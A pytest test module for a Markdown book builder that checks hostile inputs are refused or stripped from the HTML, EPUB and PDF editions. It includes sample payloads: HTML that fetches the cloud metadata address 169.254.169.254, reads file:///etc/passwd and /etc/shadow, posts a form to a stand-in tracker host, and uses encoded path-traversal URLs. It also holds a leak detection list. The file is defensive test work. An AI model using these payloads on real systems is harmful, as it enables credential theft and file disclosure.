"""Hostile input: no edition ever contains or fetches anything outside the project.

The corpus in tests/fixtures/hostile/ (cases.toml lists it) holds Markdown, raw HTML, CSS,
SVG and manifest entries that reach for files outside the project, /dev/urandom, cloud
metadata addresses and other URLs. Each case goes into a copy of the mini project and is
built once per edition, in-process: exactly one `error: <file>:<line>: …` line, exit code
2, and the previous editions in the output folder byte-for-byte as they were. A handful
run end-to-end through the real `book` command with the network blocked in the child too.
Raw HTML that is cleaned rather than refused is checked in the built editions themselves.
"""

from __future__ import annotations

import dataclasses
import re
import shutil
import socket
import tomllib
import zipfile
from pathlib import Path

import pytest

from conftest import MINI
from helpers import digests, entries, line_of, one_error, run_blocked, run_main

CORPUS = Path(__file__).parent / "fixtures" / "hostile"
CASES = tomllib.loads((CORPUS / "cases.toml").read_text("utf-8"))["case"]
FORMATS = ("html", "epub", "pdf")
SVG_IMAGE = "![an SVG drawing](../assets/hostile.svg)"


# --------------------------------------------------------------------------- helpers

def append(path: Path, text: str) -> None:
    path.write_text(path.read_text("utf-8").rstrip("\n") + "\n\n" + text, "utf-8")


def install(case: dict, project: Path, outside: Path) -> tuple[str, int]:
    """Put one corpus case into a project copy; (file, line) the error must name."""
    name = case["file"]
    source = CORPUS / name
    link = case.get("link")
    if link:
        target = link["target"]
        if target == "OUTSIDE":  # a real, readable file just outside the project
            outside.mkdir(exist_ok=True)
            real = outside / Path(link["path"]).name
            if real.suffix == ".md":
                real.write_text("# Secrets\n\nNothing here may reach the book.\n", "utf-8")
            else:
                shutil.copy(MINI / "assets" / "snail.png", real)
            target = str(real)
        (project / link["path"]).symlink_to(target)
    if name.endswith(".md"):
        where = "chapters/one.md"
        append(project / where, source.read_text("utf-8"))
    elif name.endswith(".css"):
        where = "styles/hostile.css"
        (project / "styles").mkdir(exist_ok=True)
        shutil.copy(source, project / where)
    elif name.endswith(".svg"):
        where = "chapters/one.md"
        shutil.copy(source, project / "assets" / "hostile.svg")
        append(project / where, SVG_IMAGE + "\n")
    elif name.startswith("photos-"):
        where = "assets/photos.toml"
        shutil.copy(source, project / where)
    elif name.startswith("book-"):
        where = "book.toml"
        shutil.copy(source, project / where)
    else:
        raise AssertionError(f"no rule installs {name}")
    return where, line_of(project / where, case.get("needle", "hostile.svg"))


@pytest.fixture(scope="module")
def previous(tmp_path_factory) -> Path:
    """The mini project's three editions: the 'previous build' every hostile build must
    leave exactly as it was."""
    out = tmp_path_factory.mktemp("previous") / "dist"
    code, _, err = run_main(["build", str(MINI), "--out", str(out), "--quiet"])
    assert code == 0, err
    assert {"tide-pools.pdf", "tide-pools.epub", "tide-pools-web"} <= entries(out)
    return out


@pytest.fixture
def hostile_project(tmp_path, previous):
    """(project copy, output folder holding the previous editions, outside folder)."""
    project = tmp_path / "project"
    shutil.copytree(MINI, project)
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    return project, out, tmp_path / "outside"


# --------------------------------------------------------------------------- the corpus

def test_corpus_is_complete():
    files = {p.name for p in CORPUS.iterdir()} - {"cases.toml"}
    listed = [case["file"] for case in CASES]
    assert sorted(listed) == sorted(files), "cases.toml and the corpus files disagree"
    assert len(listed) == len(set(listed))
    assert len(listed) >= 25


REFUSED = [c for c in CASES if c.get("outcome", "refused") == "refused"]
# References that are not files the build would read (a web image, a link out of the book):
# the build goes on with a located warning, and the address reaches no edition.
WARNED = [c for c in CASES if c.get("outcome") == "warned"]


@pytest.mark.parametrize("case", WARNED, ids=[c["file"] for c in WARNED])
def test_hostile_address_is_a_warning_and_reaches_no_edition(case, hostile_project):
    project, out, outside = hostile_project
    where, line = install(case, project, outside)
    code, _, stderr = run_main(["build", str(project), "--out", str(out), "--quiet"])
    assert code == 0, stderr
    warnings = [w for w in stderr.splitlines() if case["needle"] in w]
    assert len(warnings) == 1, stderr
    assert warnings[0].startswith(f"warning: {where}:{line}: "), warnings[0]
    assert case["message"] in warnings[0], warnings[0]
    texts = [p.read_bytes() for p in (out / "tide-pools-web").rglob("*") if p.is_file()]
    with zipfile.ZipFile(out / "tide-pools.epub") as epub:
        texts += [epub.read(n) for n in epub.namelist()]
    texts.append((out / "tide-pools.pdf").read_bytes())
    assert not any(case["needle"].encode() in text for text in texts)


@pytest.mark.parametrize("case", REFUSED, ids=[c["file"] for c in REFUSED])
def test_hostile_reference_is_refused_in_every_edition(case, hostile_project):
    project, out, outside = hostile_project
    where, line = install(case, project, outside)
    before, names = digests(out), entries(out)
    for fmt in FORMATS:
        code, stdout, stderr = run_main(["build", str(project), "--out", str(out),
                                         "--format", fmt, "--quiet"])
        error = one_error(stderr)
        assert code == 2, f"--format {fmt}: exit {code}\n{stderr}"
        assert error.startswith(f"error: {where}:{line}: "), f"--format {fmt}: {error}"
        assert case["message"] in error, error
        assert stdout == ""
        assert digests(out) == before, f"--format {fmt} changed the output folder"
        assert entries(out) == names, f"--format {fmt} left files behind"


# A few cases, each built by the real command in a child process with the network blocked
# there too (any connect or DNS lookup is reported on stderr and fails), for every edition.
E2E = ["md-image-dotdot.md", "raw-img-file-url.md", "css-font-face.css",
       "svg-xxe.svg", "photos-file-symlink.toml", "book-cover-dotdot.toml"]

def test_hostile_cases_end_to_end(tmp_path, previous):
    """The real command, all editions at once and each alone, started in parallel."""
    runs = {}
    for name in E2E:
        case = next(c for c in CASES if c["file"] == name)
        base = tmp_path / name
        project = base / "project"
        shutil.copytree(MINI, project)
        where, line = install(case, project, base / "outside")
        alone = [(f,) for f in FORMATS] if name in E2E[:2] else []
        for formats in (FORMATS, *alone):
            out = base / ("out-" + "-".join(formats))
            shutil.copytree(previous, out)
            args = ["build", str(project), "--out", str(out), "--quiet"]
            args += [a for f in formats for a in ("--format", f)]
            runs[(name, formats)] = (run_blocked(args, wait=False), out, digests(out),
                                     f"error: {where}:{line}: ", case["message"])
    for (name, formats), (proc, out, before, prefix, message) in runs.items():
        stdout, stderr = proc.communicate(timeout=300)
        error = one_error(stderr)
        assert proc.returncode == 2, f"{name} {formats}: exit {proc.returncode}\n{stderr}"
        assert error.startswith(prefix) and message in error, f"{name} {formats}: {error}"
        assert stdout == ""
        assert digests(out) == before, f"{name} {formats} changed the output folder"


# --------------------------------------------------------------------------- cleaned HTML

CLEANED = """
<script>fetch('http://169.254.169.254/latest/meta-data/')</script>
<iframe src="file:///etc/passwd"></iframe>
<object data="file:///etc/shadow"></object><embed src="file:///etc/hosts">
<link rel="stylesheet" href="http://169.254.169.254/evil.css">
<style>@import url(file:///etc/passwd); body { background: url(http://tracker.example/s) }</style>
<meta http-equiv="refresh" content="0; url=http://tracker.example/">
<base href="file:///etc/">
<form action="http://tracker.example/steal"><input name="q"></form>
<p onclick="steal()" style="background: url(http://tracker.example/p)">Safe words.</p>
<a href="javascript:steal()" onmouseover="steal()">a scripted link</a>
<a href="vbscript:steal()">another</a> <a href="file:///etc/passwd">a file link</a>
<table><tr><td style="background: url(file:///etc/passwd); text-align: right">cell</td></tr></table>
<svg><image href="file:///etc/passwd"/><script>steal()</script></svg>
<math><maction actiontype="statusline" xlink:href="javascript:steal()">m</maction></math>
<img src="../assets/snail.png" alt="a snail" onerror="steal()" srcset="file:///etc/passwd 2x">
"""
LEAKS = ("169.254.169.254", "etc/passwd", "etc/shadow", "etc/hosts", "tracker.example",
         "javascript:", "vbscript:", "steal()", "onclick", "onerror", "onmouseover",
         "<script", "<iframe", "<object", "<embed", "<style", "<base", "<form", "<meta http")


def strip_builder_parts(body: str, builder_files: set[str]) -> str:
    """A page without the web edition's own parts: its data (JSON-LD and its words for
    book.js, whose text JSON escapes), `<script src>` elements naming the edition's own
    files and its search forms (to search.html). Any other script or form stays and is
    caught."""
    body = re.sub(r'<script type="application/(?:ld\+)?json"[^>]*>[^<]*</script>', "", body)
    own_form = (r'<form class="(?:site-search|search-page-form)"[^>]*'
                r'action="search\.html">.*?</form>')
    body = re.sub(own_form, "", body, flags=re.S)

    def own(match: re.Match) -> str:
        return "" if match.group(1) in builder_files else match.group(0)

    return re.sub(r'<script src="([^"<>]+)"(?: defer)?></script>', own, body)


def test_raw_html_is_cleaned_in_every_edition(hostile_project):
    """Raw HTML that cannot load anything once cleaned builds (offline: the child's
    sockets are blocked and it never tries one), and no edition keeps a trace of it;
    titles with markup are escaped by the templates, not interpreted."""
    project, out, _ = hostile_project
    chapter = project / "chapters" / "one.md"
    text = chapter.read_text("utf-8").replace(
        "title: Life between the tides", "title: \"Tides <u>under</u> & <b>bold</b>\"")
    chapter.write_text(text, "utf-8")
    append(chapter, CLEANED)
    result = run_blocked(["build", str(project), "--out", str(out), "--quiet"])
    assert result.returncode == 0, result.stderr
    assert "NETWORK ATTEMPT" not in result.stderr and "Traceback" not in result.stderr
    texts = {p.name: p.read_text("utf-8") for p in (out / "tide-pools-web").rglob("*.html")}
    with zipfile.ZipFile(out / "tide-pools.epub") as epub:
        texts.update({n: epub.read(n).decode("utf-8") for n in epub.namelist()
                      if n.endswith((".xhtml", ".opf", ".ncx", ".css"))})
    pdf = (out / "tide-pools.pdf").read_bytes()
    builder_files = {p.relative_to(out / "tide-pools-web").as_posix()
                     for p in (out / "tide-pools-web").rglob("*.js")}
    texts = {name: strip_builder_parts(body, builder_files) for name, body in texts.items()}
    for leak in LEAKS:
        for name, body in texts.items():
            assert leak not in body, f"{leak!r} reached {name}"
        assert leak.encode() not in pdf, f"{leak!r} reached the PDF"
    chapter_page = next(body for name, body in texts.items()
                        if name.endswith(".html") and "Safe words." in body)
    assert "Tides &lt;u&gt;under&lt;/u&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in chapter_page
    assert "a snail" in chapter_page  # the image itself stays, without its handlers


# --------------------------------------------------------------------------- backstops

def test_the_suite_runs_offline():
    """The autouse fixture in conftest.py blocks sockets for every test (in-process); the
    child processes above block them too (NO_NETWORK)."""
    with pytest.raises(OSError):
        socket.create_connection(("169.254.169.254", 80), timeout=1)
    with pytest.raises(OSError):
        socket.getaddrinfo("example.com", 443)
    with pytest.raises(OSError), socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.connect(("::1", 9))


def test_fetcher_refuses_everything_outside_the_project(tmp_path):
    """The fetcher serves the Book's assets (read and checked at load time) and the
    theme's files; nothing else, whatever the URL."""
    from book.model import Asset
    from book.pdf.fetch import ProjectFetcher, RefusedFetch
    from book.pdf.layout import PROJECT_URL
    from book.render.theme import THEME

    inside = tmp_path / "project"
    inside.mkdir()
    (inside / "ok.css").write_text("p {}", "utf-8")
    (tmp_path / "secret.txt").write_text("secret", "utf-8")
    (inside / "link.css").symlink_to(tmp_path / "secret.txt")
    fetcher = ProjectFetcher(PROJECT_URL, (Asset("ok.css", b"p {}", "text/css"),))
    assert fetcher.fetch(PROJECT_URL + "ok.css").read() == b"p {}"
    theme_css = THEME / "print.css"
    assert fetcher.fetch(theme_css.as_uri()).read() == theme_css.read_bytes()
    for url in [(tmp_path / "secret.txt").as_uri(), (inside / "link.css").as_uri(),
                (inside / "ok.css").as_uri(), PROJECT_URL + "link.css",
                PROJECT_URL + "../secret.txt", PROJECT_URL + "%2e%2e/secret.txt",
                THEME.as_uri() + "/../__init__.py", THEME.as_uri() + "/%2e%2e/__init__.py",
                (inside / "..").as_uri() + "/secret.txt", inside.as_uri() + "/%2e%2e/secret.txt",
                "file:///dev/urandom", "file:///etc/passwd", "file://evil.example/etc/passwd",
                "http://169.254.169.254/latest/meta-data/", "https://example.com/x.css",
                "ftp://example.com/x", "data:text/css,p{}", "gopher://x/", inside.as_uri()]:
        with pytest.raises(RefusedFetch):
            fetcher.fetch(url)


def test_refused_fetch_at_pdf_time_is_a_located_input_error(hostile_project, monkeypatch):
    """Should a reference slip past the load-time checks, WeasyPrint's fetch is refused and
    the build stops with exit 2 at the line that names it, not a bare 'build failed'."""
    import book.source.load

    project, out, _ = hostile_project
    (project / "styles").mkdir()
    (project / "styles" / "leak.css").write_text(
        "h1 { color: #123; }\nbody { background: url(file:///etc/passwd); }\n", "utf-8")
    monkeypatch.setattr(book.source.load, "css_problems", lambda text, **kwargs: [])
    before = digests(out)
    # --clean: the chunk cache is keyed by the images as loaded, which are still whole.
    code, _, stderr = run_main(["build", str(project), "--out", str(out), "--quiet",
                                "--format", "pdf", "--clean"])
    error = one_error(stderr)
    assert code == 2, stderr
    assert error.startswith("error: styles/leak.css:2: refused to fetch 'file:///etc/passwd'")
    assert digests(out) == before


def test_weasyprint_error_fails_the_build(hostile_project, monkeypatch):
    """WeasyPrint only logs an image it cannot decode; the build must fail all the same
    (exit 1), leaving the previous PDF as it was."""
    import book.pipeline

    project, out, _ = hostile_project
    real_load_book = book.pipeline.load_book

    def load_then_lose_image(*args, **kwargs):
        loaded = real_load_book(*args, **kwargs)  # the image, as loaded, is broken
        assets = tuple(dataclasses.replace(a, data=b"\x89PNG garbage")
                       if a.path.endswith("snail.png") else a for a in loaded.assets)
        return dataclasses.replace(loaded, assets=assets)

    monkeypatch.setattr(book.pipeline, "load_book", load_then_lose_image)
    before = digests(out)
    # --clean: the chunk cache is keyed by the images as loaded, which are still whole.
    code, _, stderr = run_main(["build", str(project), "--out", str(out), "--quiet",
                                "--format", "pdf", "--clean"])
    error = one_error(stderr)
    assert code == 1, stderr
    assert error.startswith("error: build failed: PDF: ") and "snail.png" in error, error
    assert digests(out) == before


def test_output_folder_must_not_be_the_project_or_a_checkout(tmp_path):
    project = tmp_path / "project"
    shutil.copytree(MINI, project)
    checkout = tmp_path / "checkout"
    (checkout / ".git").mkdir(parents=True)
    a_file = tmp_path / "a-file"
    a_file.write_text("keep me", "utf-8")
    for out in (project, checkout, a_file):
        before = sorted(p.name for p in out.parent.rglob("*"))
        code, _, stderr = run_main(["build", str(project), "--out", str(out), "--quiet"])
        error = one_error(stderr)
        assert code == 2, stderr
        assert error.startswith(f"error: {out.resolve()}: "), error
        assert sorted(p.name for p in out.parent.rglob("*")) == before
    assert a_file.read_text("utf-8") == "keep me"
    (project / "dist").symlink_to(checkout)  # a dist/ link smuggled in by a pull request
    code, _, stderr = run_main(["build", str(project), "--quiet"])
    assert code == 2 and "symbolic link" in one_error(stderr)
    assert [p.name for p in checkout.iterdir()] == [".git"]
